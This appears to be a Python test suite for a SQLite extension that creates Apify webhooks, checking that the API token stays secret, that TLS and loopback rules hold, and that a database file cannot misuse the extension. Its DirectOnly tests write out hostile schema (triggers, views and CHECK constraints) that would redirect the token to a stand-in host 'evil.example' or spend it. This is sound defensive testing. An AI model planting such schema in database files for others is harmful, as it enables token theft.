"""The token stays secret, travels only where it should, and a database file from someone else
cannot spend it.

- The token never appears in the database file or its -journal/-wal, in an error message, in
  the dry run, in the progress line, or anywhere in a request but its Authorization header
  (checked on the emulator's log and on the raw bytes a bare socket server received).
- It is never sent in clear text to anything but a loopback address, and redirects are not
  followed.
- TLS certificates are verified: a self-signed one is refused unless ca_file trusts it.
- An answer over the 1 MiB cap is refused without reading it into memory.
- Triggers, views and other schema of a database file cannot call the functions that touch the
  network or the configuration, nor the table (DIRECTONLY).
"""

import json
import os
import re
import signal
import socket
import sqlite3
import tempfile
import threading
import time
import unittest

from tests.harness import (EXT, EmulatorCase, Emulator, connect, local_rows, self_signed_cert, shell,
                           sqlite_version, start_shell)

SECRET = "tok-SECRET-Sx7Qm2Lp9Wz4Rk8Vt3Nh6Yb1"    # distinctive: found anywhere, it leaked
WRONG = "tok-WRONG-WrongWrong0Zz99Qq77Jj55"       # a refused token must not leak either
CA_HINT = "; to trust a private CA, SELECT apify_config('ca_file', '/path/to/ca.pem')"
HOOK = {"requestUrl": "https://example.com/h", "eventTypes": ["ACTOR.RUN.SUCCEEDED"],
        "condition": {"actorId": "HDSasDasz78YcAPEB"}}
ACTORS = ("CREATE TABLE IF NOT EXISTS actors(actor_id TEXT, name TEXT);\n"
          "WITH RECURSIVE c(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM c WHERE i<{n})"
          " INSERT INTO actors SELECT printf('{prefix}%05d', i), 'name' || i FROM c;\n")
BULK = ("INSERT INTO apify_webhooks(request_url, event_types, actor_id)"
        " SELECT 'https://example.com/hook/' || actor_id, '[\"ACTOR.RUN.SUCCEEDED\"]', actor_id"
        " FROM actors;\n")
ONE = "SELECT apify_config('max_attempts', 1);\n"
MAX_REPLY = 1 << 20
REFUSED = ('apify: refusing to send the token in clear text to "{host}"; use https, or http '
           'only to a loopback address')


def q(value):
    """A SQL string literal."""
    if not isinstance(value, str):
        value = json.dumps(value)
    return "'" + value.replace("'", "''") + "'"


def create(obj=HOOK):
    return f"SELECT apify_create_webhook({q(obj)}) ->> 'id';\n"


def actors(n, prefix="actor"):
    return ACTORS.format(n=n, prefix=prefix)


def errors(r):
    """The error messages the shell printed, without its "... error near line N: " prefix."""
    out = []
    for line in r.err.splitlines():
        m = re.match(r"^(?:Runtime|Parse) error near line \d+: (.*)$", line)
        out.append(m.group(1) if m else line)
    return out


class RawServer:
    """A bare HTTP/1.1 server on 127.0.0.1 that keeps the exact bytes of every request it
    receives and answers each with the bytes of `reply` (a whole response)."""

    def __init__(self, reply):
        self.reply, self.requests = reply, []
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.1)
        self.base_url = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
        self.stopping = False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stopping:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            threading.Thread(target=self.handle, args=(conn,), daemon=True).start()

    def handle(self, conn):
        conn.settimeout(10)
        buf = b""
        with conn:
            try:
                while True:
                    while b"\r\n\r\n" not in buf:
                        chunk = conn.recv(65536)
                        if not chunk:
                            return
                        buf += chunk
                    head, _, rest = buf.partition(b"\r\n\r\n")
                    length = 0
                    for line in head.split(b"\r\n")[1:]:
                        name, _, value = line.partition(b":")
                        if name.strip().lower() == b"content-length":
                            length = int(value.strip())
                    while len(rest) < length:
                        chunk = conn.recv(65536)
                        if not chunk:
                            return
                        rest += chunk
                    self.requests.append(head + b"\r\n\r\n" + rest[:length])
                    buf = rest[length:]
                    conn.sendall(self.reply)
            except OSError:
                return

    def stop(self):
        self.stopping = True
        self.thread.join(5)
        self.sock.close()


def created_reply(webhook_id="AbCdEfGhIjKlMnOpQ"):
    body = json.dumps({"data": dict(HOOK, id=webhook_id)}).encode()
    return (b"HTTP/1.1 201 Created\r\nContent-Type: application/json\r\n"
            b"Content-Length: %d\r\n\r\n" % len(body)) + body


class SecretCase(EmulatorCase):
    tokens = [SECRET]

    def path(self, name):
        return os.path.join(self.tmp.name, name)

    def sql(self, text, db=":memory:", **kwargs):
        kwargs.setdefault("token", SECRET)
        return shell(text, self.emu, db=db, **kwargs)

    def assertNoSecret(self, text, what="output"):
        if isinstance(text, bytes):
            for token in (SECRET, WRONG):
                self.assertNotIn(token.encode(), text, f"token in {what}")
        else:
            for token in (SECRET, WRONG):
                self.assertNotIn(token, text, f"token in {what}")

    def assertNothingSent(self):
        self.assertEqual(self.emu.log(), [])


class TokenStaysSecret(SecretCase):
    knobs = {"max_webhooks": 25}

    def kill_mid_commit(self, db, sql):
        """Run sql in the shell on db and SIGKILL it after the emulator received 3 POSTs."""
        start = self.emu.counts()["posts"]
        proc = start_shell(sql, self.emu, db=db, token=SECRET)
        deadline = time.monotonic() + 60
        while proc.poll() is None and time.monotonic() < deadline:
            if self.emu.counts()["posts"] - start >= 3:
                break
            time.sleep(0.01)
        self.assertIsNone(proc.poll(), "the shell ended before it could be killed")
        os.kill(proc.pid, signal.SIGKILL)
        proc.communicate(timeout=10)

    def test_token_never_in_the_database_files(self):
        db, wal = self.path("t.db"), self.path("w.db")
        # A full session: the token from the environment and from apify_config, created and
        # failed rows (403 past 25 webhooks), the function, the dry run, then a wrong token.
        r = self.sql(f"SELECT apify_config('token', {q(SECRET)});\n" + actors(30) + BULK
                     + create() + f"SELECT apify_dry_run({q(HOOK)});\n"
                     + f"SELECT apify_config('token', {q(WRONG)});\n"
                     + actors(3, "other") + BULK, db=db)
        self.assertIn("apify: 401 user-or-token-not-found: ", r.err)
        self.assertNoSecret(r.out + r.err)
        statuses = {row["status"] for row in local_rows(db, self.emu, token=SECRET)}
        self.assertEqual(statuses, {"created", "failed"})
        # Then two commits killed half way, so that a hot -journal and a -wal stay behind.
        self.emu.configure(latency_ms=200, max_webhooks=1000)
        self.kill_mid_commit(db, actors(20, "more") + BULK)
        r = shell("PRAGMA journal_mode=WAL;\n" + actors(20), db=wal, load=False)
        self.assertEqual(r.out.strip(), "wal", r)
        self.kill_mid_commit(wal, BULK)
        names = sorted(os.listdir(self.tmp.name))
        self.assertIn("t.db-journal", names)
        self.assertIn("w.db-wal", names)
        for name in names:
            with open(self.path(name), "rb") as f:
                self.assertNoSecret(f.read(), name)

    def test_token_not_in_error_messages(self):
        closed = socket.socket()
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
        closed.close()
        cases = [
            ("401", WRONG, create(), r"^apify: 401 user-or-token-not-found: .+$"),
            ("401 in a commit", WRONG, actors(2) + BULK,
             r"^apify: 401 user-or-token-not-found: .+; nothing was created$"),
            ("unreachable", SECRET, f"SELECT apify_config('base_url', "
             f"'http://127.0.0.1:{port}');\n" + create(),
             rf"^apify: POST http://127\.0\.0\.1:{port}/v2/webhooks failed: .+$"),
            ("clear text refused", SECRET,
             "SELECT apify_config('base_url', 'http://example.com');\n" + create(),
             "^" + re.escape(REFUSED.format(host="example.com")) + "$"),
            ("403", SECRET, create(dict(HOOK, requestUrl="https://example.com/403")),
             r"^apify: 403 too-many-webhooks: .+$"),
        ]
        for name, token, sql, pattern in cases:
            with self.subTest(name):
                if name == "403":
                    self.emu.configure(max_webhooks=0)
                r = self.sql(ONE + sql, token=token)
                [message] = errors(r)
                self.assertRegex(message, pattern)
                self.assertNoSecret(r.out + r.err)
        r = self.sql("SELECT apify_config();\nSELECT apify_config('token');\n")
        self.assertEqual(json.loads(r.lines[0])["token"], "(set)")
        self.assertEqual(r.lines[1], "(set)")
        self.assertNoSecret(r.out + r.err)

    def test_dry_run_never_shows_the_token(self):
        r = self.sql(f"SELECT apify_dry_run({q(HOOK)});\n")
        self.assertEqual(r.rc, 0, r)
        dry = json.loads(r.out)
        self.assertEqual(dry["headers"]["Authorization"], "Bearer <redacted>")
        self.assertEqual(dry["url"], self.emu.base_url + "/v2/webhooks")
        self.assertNoSecret(r.out + r.err)
        self.assertNothingSent()

    def test_progress_line_never_shows_the_token(self):
        r = self.sql("SELECT apify_config('progress', 'on');\n" + actors(10) + BULK)
        self.assertEqual(r.rc, 0, r)
        self.assertRegex(r.err, r"apify: 10 requests in [\d.]+ s: 10 created, 0 failed, ")
        self.assertNoSecret(r.err)
        # Five rows are too few for a progress line.
        r = self.sql("SELECT apify_config('progress', 'on');\n" + actors(5, "few") + BULK)
        self.assertEqual((r.rc, r.err), (0, ""), r)

    def test_emulator_log_has_the_token_only_in_authorization(self):
        r = self.sql(actors(8) + BULK + create())
        self.assertEqual(r.rc, 0, r)
        log = self.emu.log()
        self.assertEqual(len(log), 9)
        for entry in log:
            self.assertEqual((entry["method"], entry["path"], entry["query"]),
                             ("POST", "/v2/webhooks", {}))
            self.assertEqual(entry["auth"], "valid")   # so the token was in Authorization
            headers = {k.lower(): v for k, v in entry["headers"].items()}
            self.assertEqual(headers["authorization"], "Bearer ***")
            self.assertNoSecret(json.dumps(entry), "the emulator's log")

    def test_raw_request_bytes(self):
        # A bare socket server shows exactly what went on the wire: the token once per request,
        # in the Authorization header, and the request line names no token.
        server = RawServer(created_reply())
        self.addCleanup(server.stop)
        r = self.sql(f"SELECT apify_config('base_url', {q(server.base_url)});\n"
                     + create() + actors(3) + BULK)
        self.assertEqual(r.rc, 0, r)
        self.assertEqual(len(server.requests), 4)
        for raw in server.requests:
            lines = raw.split(b"\r\n")
            self.assertEqual(lines[0], b"POST /v2/webhooks HTTP/1.1")
            self.assertEqual(raw.count(SECRET.encode()), 1, raw)
            self.assertIn(b"Authorization: Bearer " + SECRET.encode(), lines)

    def test_redirects_are_not_followed(self):
        # A redirect to another server must not carry the token there.
        other = RawServer(created_reply())
        self.addCleanup(other.stop)
        redirect = RawServer(b"HTTP/1.1 307 Temporary Redirect\r\nLocation: "
                             + other.base_url.encode() + b"/v2/webhooks\r\n"
                             b"Content-Length: 0\r\n\r\n")
        self.addCleanup(redirect.stop)
        r = self.sql(ONE + f"SELECT apify_config('base_url', {q(redirect.base_url)});\n"
                     + create())
        self.assertEqual(errors(r), ["apify: 307: empty answer"], r)
        self.assertEqual(len(redirect.requests), 1)
        self.assertEqual(other.requests, [])


class ClearText(SecretCase):

    def assertRefused(self, base_url, host):
        message = REFUSED.format(host=host)
        r = self.sql(ONE + f"SELECT apify_config('base_url', {q(base_url)});\n" + create()
                     + actors(2) + BULK + "SELECT count(*) FROM apify_webhooks;\n")
        self.assertEqual(errors(r), [message, message], r)
        self.assertEqual(r.lines[-1], "0")      # the commit failed: nothing recorded
        r = self.sql(ONE + create(), env={"APIFY_API_BASE_URL": base_url})
        self.assertEqual(errors(r), [message], r)
        self.assertNothingSent()

    def test_plain_http_to_other_hosts_is_refused(self):
        port = self.emu.port
        for base_url, host in [
                ("http://example.com", "example.com"),
                ("http://api.apify.com", "api.apify.com"),
                # 0.0.0.0 would reach the emulator on this machine: nothing may arrive.
                (f"http://0.0.0.0:{port}", "0.0.0.0"),
                (f"http://localhost.example:{port}", "localhost.example")]:
            with self.subTest(base_url):
                self.assertRefused(base_url, host)

    def test_a_host_name_that_starts_with_127_is_not_loopback(self):
        # "127.evil.example" is a DNS name anyone can point anywhere, not 127.0.0.0/8.
        self.assertRefused(f"http://127.evil.example:{self.emu.port}", "127.evil.example")

    def test_loopback_addresses_are_accepted(self):
        port = self.emu.port
        for base_url in (f"http://127.0.0.1:{port}", f"http://localhost:{port}",
                         f"http://LOCALHOST:{port}", f"http://127.1:{port}"):
            with self.subTest(base_url):
                self.emu.reset()
                r = self.sql(f"SELECT apify_config('base_url', {q(base_url)});\n" + create())
                self.assertEqual((r.rc, r.err), (0, ""), r)
                self.assertEqual(r.lines[-1], self.emu.webhooks()[0]["id"])

    def test_other_loopback_addresses_are_accepted(self):
        for host in ("127.0.0.2", "::1"):
            with self.subTest(host), Emulator(tokens=[SECRET], host=host) as emu:
                self.assertTrue(emu.base_url.startswith(("http://127.0.0.2:", "http://[::1]:")))
                r = shell(create(), emu, token=SECRET)
                self.assertEqual((r.rc, r.err), (0, ""), r)
                self.assertEqual(r.lines[-1], emu.webhooks()[0]["id"])


class Tls(SecretCase):
    """The emulator in https mode with a self-signed certificate made for this run."""

    @classmethod
    def setUpClass(cls):
        cls.certs = tempfile.TemporaryDirectory()
        cls.cert, cls.key = self_signed_cert(cls.certs.name)
        cls.emu = Emulator(tokens=[SECRET], tls=(cls.cert, cls.key))

    @classmethod
    def tearDownClass(cls):
        cls.emu.stop()
        cls.certs.cleanup()

    def failure(self, what):
        return f"apify: POST {self.emu.base_url}/v2/webhooks failed: {what}"

    def test_base_url_is_https(self):
        self.assertTrue(self.emu.base_url.startswith("https://127.0.0.1:"), self.emu.base_url)

    def test_self_signed_certificate_is_refused_by_default(self):
        r = self.sql(ONE + create() + actors(3) + BULK)
        self.assertEqual(errors(r), [
            self.failure("SSL certificate problem: self-signed certificate" + CA_HINT),
            self.failure("SSL certificate problem: self-signed certificate" + CA_HINT)
            + "; nothing was created"], r)
        # The handshake failed, so no HTTP request (and no token) ever reached the server.
        self.assertNothingSent()

    def test_certificate_failure_is_not_retried(self):
        # A certificate that fails verification will fail again: no backoff, one attempt.
        r = self.sql("SELECT apify_config('max_attempts', 3);\n" + create())
        self.assertEqual(errors(r), [
            self.failure("SSL certificate problem: self-signed certificate" + CA_HINT)], r)

    def test_ca_file_trusts_the_certificate(self):
        r = self.sql(f"SELECT apify_config('ca_file', {q(str(self.cert))});\n" + create()
                     + actors(5) + BULK + "SELECT count(*) FROM apify_webhooks"
                     " WHERE status = 'created';\n")
        self.assertEqual((r.rc, r.err), (0, ""), r)
        self.assertEqual(r.lines[-1], "5")
        self.assertEqual(len(self.emu.webhooks()), 6)
        self.assertEqual({e["auth"] for e in self.emu.log()}, {"valid"})

    def test_ca_file_that_does_not_exist(self):
        r = self.sql(ONE + "SELECT apify_config('ca_file', '/nonexistent/ca.pem');\n" + create())
        self.assertEqual(errors(r), [
            self.failure("error setting certificate file: /nonexistent/ca.pem")], r)
        self.assertNothingSent()


def run_measured(sql, emu):
    """Run sql in the shell; returns (rc, stdout, stderr, peak RSS of the shell in KiB)."""
    proc = start_shell(sql, emu, token=SECRET)
    out = proc.stdout.read()
    err = proc.stderr.read()
    _, status, usage = os.wait4(proc.pid, 0)
    proc.returncode = os.waitstatus_to_exitcode(status)
    proc.stdout.close()
    proc.stderr.close()
    return proc.returncode, out, err, usage.ru_maxrss


class OversizedAnswer(SecretCase):
    """The emulator's "huge" action creates the webhook and answers 201 with an 8 MiB body."""

    def test_function_refuses_it_without_reading_it(self):
        rc, out, err, base = run_measured(create(), self.emu)
        self.assertEqual((rc, err), (0, ""), out)
        self.emu.reset()
        self.emu.configure(script=["huge"])
        rc, out, err, peak = run_measured(create(), self.emu)
        self.assertEqual(err.splitlines(), [
            f"Runtime error near line 2: apify: POST {self.emu.base_url}/v2/webhooks failed: "
            f"the answer is larger than {MAX_REPLY} bytes"], err)
        self.assertEqual(len(self.emu.posts()), 1)         # a too-large answer is not retried
        self.assertLess(peak - base, 4 * 1024, "the shell held much of the 8 MiB answer")

    def test_table_records_it_and_a_rerun_completes_the_row(self):
        db = self.path("t.db")
        self.emu.configure(script=["ok", "huge"])
        r = shell(actors(3) + BULK, self.emu, db=db, token=SECRET)
        self.assertEqual((r.rc, r.err), (0, ""), r)
        rows = local_rows(db, self.emu, token=SECRET)
        self.assertEqual([(x["status"], x["error_message"]) for x in rows], [
            ("created", None), ("failed", f"the answer is larger than {MAX_REPLY} bytes"),
            ("created", None)])
        r = shell(BULK, self.emu, db=db, token=SECRET)
        self.assertEqual((r.rc, r.err), (0, ""), r)
        rows = local_rows(db, self.emu, token=SECRET)
        self.assertEqual({x["status"] for x in rows}, {"created"})
        remote = {w["idempotencyKey"]: w["id"] for w in self.emu.webhooks()}
        self.assertEqual(remote, {x["idempotency_key"]: x["id"] for x in rows})


# The first SQLite tested that refuses DIRECTONLY functions in CHECK constraints by itself
# (3.40.1 runs them; the change came in between).
CHECK_REFUSED_FROM = (3, 53, 0)


class DirectOnly(SecretCase):
    """What a database file can do with the extension loaded: nothing that sends or that
    changes the configuration, from any of its schema."""

    def hostile(self, schema):
        """A database file holding schema, made by someone with the extension loaded (and no
        token)."""
        db = self.path("hostile.db")
        r = shell(schema, db=db, env={"APIFY_TOKEN": "", "APIFY_API_BASE_URL": ""})
        self.assertEqual((r.rc, r.err), (0, ""), r)
        conn = connect(self.emu, db=db, token=SECRET, isolation_level=None)
        self.addCleanup(conn.close)
        return conn

    def assertUnsafe(self, conn, sql, message):
        with self.assertRaises(sqlite3.OperationalError) as caught:
            conn.execute(sql).fetchall()
        self.assertEqual(str(caught.exception), message)

    def assertUntouched(self, conn):
        self.assertEqual(conn.execute("SELECT apify_config('base_url')").fetchone(),
                         (self.emu.base_url,))
        self.assertNothingSent()

    def test_triggers_and_views_of_a_database_file(self):
        hook = q(HOOK)
        conn = self.hostile(
            "CREATE TABLE t(x);\n"
            f"CREATE TRIGGER t_send AFTER INSERT ON t BEGIN SELECT apify_create_webhook({hook});"
            " END;\n"
            "CREATE TABLE u(x);\n"
            "CREATE TRIGGER u_redirect AFTER INSERT ON u BEGIN"
            " SELECT apify_config('base_url', 'https://evil.example'); END;\n"
            "CREATE TABLE w(x);\n"
            "CREATE TRIGGER w_queue AFTER INSERT ON w BEGIN"
            f" INSERT INTO apify_webhooks(webhook) VALUES ({hook}); END;\n"
            f"CREATE VIEW v_send AS SELECT apify_create_webhook({hook}) AS w;\n"
            "CREATE VIEW v_config AS SELECT apify_config() AS c;\n"
            "CREATE VIEW v_table AS SELECT id FROM apify_webhooks;\n"
            "CREATE VIRTUAL TABLE nightly USING apify_webhooks;\n"
            "CREATE VIEW v_nightly AS SELECT id FROM nightly;\n"
            f"CREATE TABLE d(x, y DEFAULT (apify_create_webhook({hook})));\n")
        for trusted in (0, 1):
            conn.execute(f"PRAGMA trusted_schema={trusted}")
            for sql, message in [
                    ("INSERT INTO t VALUES (1)", "unsafe use of apify_create_webhook()"),
                    ("INSERT INTO u VALUES (1)", "unsafe use of apify_config()"),
                    ("INSERT INTO w VALUES (1)", 'unsafe use of virtual table "apify_webhooks"'),
                    ("SELECT * FROM v_send", "unsafe use of apify_create_webhook()"),
                    ("SELECT * FROM v_config", "unsafe use of apify_config()"),
                    ("SELECT * FROM v_table", 'unsafe use of virtual table "apify_webhooks"'),
                    ("SELECT * FROM v_nightly", 'unsafe use of virtual table "nightly"'),
                    ("INSERT INTO d(x) VALUES (1)", "unsafe use of apify_create_webhook()")]:
                with self.subTest(sql, trusted_schema=trusted):
                    self.assertUnsafe(conn, sql, message)
        self.assertUntouched(conn)

    def test_triggers_and_views_made_in_this_session(self):
        conn = connect(self.emu, token=SECRET, isolation_level=None)
        self.addCleanup(conn.close)
        conn.executescript(
            "CREATE TABLE t(x);\n"
            f"CREATE TRIGGER t_send AFTER INSERT ON t BEGIN SELECT apify_create_webhook({q(HOOK)});"
            " END;\n"
            "CREATE VIEW v_config AS SELECT apify_config('token', 'x') AS c;\n")
        self.assertUnsafe(conn, "INSERT INTO t VALUES (1)", "unsafe use of apify_create_webhook()")
        self.assertUnsafe(conn, "SELECT * FROM v_config", "unsafe use of apify_config()")
        self.assertUntouched(conn)

    CHECK_SCHEMA = (
        "CREATE TABLE ck_send(x CHECK (apify_create_webhook(x) IS NOT NULL));\n"
        "CREATE TABLE ck_redirect(x CHECK (apify_config('base_url', 'https://evil.example')"
        " IS NOT NULL));\n")

    def test_check_constraints_of_a_database_file(self):
        # SQLite 3.40.1 does not apply DIRECTONLY to CHECK constraints read from the schema:
        # a file someone hands you could spend the token, or send it elsewhere next time. So the
        # functions that send or configure refuse to run at all while a table's CHECK
        # constraint names one of them, whatever the statement's text says (the old guard, which
        # looked for the function's name in the statement, let "-- raise the apify config
        # timeout" through). (Generated columns refuse non-deterministic functions anyway.)
        # SQLite 3.53 refuses such constraints itself: below.
        if sqlite_version() >= CHECK_REFUSED_FROM:
            self.check_constraints_refused_by_sqlite()
            return
        refused = ('apify: table "{}" in database "main" has a CHECK constraint that calls {}();'
                   " the extension does not send or change settings while a database's schema"
                   " can: drop or rebuild that table")
        for table, check, function in (
                ("ck_send", "apify_create_webhook(x) IS NOT NULL", "apify_create_webhook"),
                ("ck_redirect", "apify_config('base_url', 'https://evil.example') IS NOT NULL",
                 "apify_config"),
                ("ck_quoted", '"APIFY_CONFIG"(\'timeout_ms\', 1) /* x */ IS NOT NULL',
                 "apify_config")):
            with self.subTest(table):
                db = self.path(f"{table}.db")
                # made with the extension loaded (SQLite wants the function to exist), no token
                r = shell(f"CREATE TABLE {table}(x CHECK ({check}));\n", db=db, token=None,
                          env={"APIFY_API_BASE_URL": ""})
                self.assertEqual((r.rc, r.err), (0, ""), r)
                message = refused.format(table, function)
                for sql in (f"INSERT INTO {table} VALUES ({q(HOOK)});",
                            "SELECT apify_config('timeout_ms'); -- raise the apify config timeout",
                            f"SELECT apify_create_webhook({q(HOOK)});"):
                    r = shell(sql + "\n", self.emu, db=db, token=SECRET)
                    self.assertIn(message, r.err, sql)
        self.assertNothingSent()

    def check_constraints_refused_by_sqlite(self):
        """SQLite 3.53's answer: such CHECK constraints cannot be written with the extension
        loaded, and a file written without it (stand-in functions of the same names, as anyone
        can make) is a malformed schema once the extension is loaded: nothing in it runs."""
        r = shell(self.CHECK_SCHEMA, db=self.path("made_with_extension.db"),
                  env={"APIFY_TOKEN": "", "APIFY_API_BASE_URL": ""})
        self.assertEqual(r.err.splitlines(), [
            "Parse error near line 2: unsafe use of apify_create_webhook()",
            "Parse error near line 3: unsafe use of apify_config()"], r)
        db = self.path("hostile.db")
        maker = sqlite3.connect(db)
        maker.create_function("apify_create_webhook", 1, lambda x: 1)
        maker.create_function("apify_config", 2, lambda name, value: 1)
        maker.executescript(self.CHECK_SCHEMA)
        maker.close()
        conn = sqlite3.connect(db, isolation_level=None)
        self.addCleanup(conn.close)
        conn.enable_load_extension(True)
        conn.load_extension(str(EXT))
        for sql in (f"INSERT INTO ck_send VALUES ({q(HOOK)})", "INSERT INTO ck_redirect VALUES (1)"):
            with self.subTest(sql):
                with self.assertRaises(sqlite3.DatabaseError) as caught:
                    conn.execute(sql).fetchall()
                # SQLite's refusal, or the extension's guard when it answers first
                self.assertIn(str(caught.exception), (
                    "malformed database schema (ck_send) - unsafe use of apify_create_webhook()",
                    'apify: table "ck_send" in database "main" has a CHECK constraint that calls'
                    " apify_create_webhook(); the extension does not send or change settings"
                    " while a database's schema can: drop or rebuild that table"))
        with self.assertRaises(sqlite3.DatabaseError):
            conn.execute("SELECT apify_config('base_url', 'https://evil.example')").fetchone()
        self.assertNothingSent()


if __name__ == "__main__":
    unittest.main()
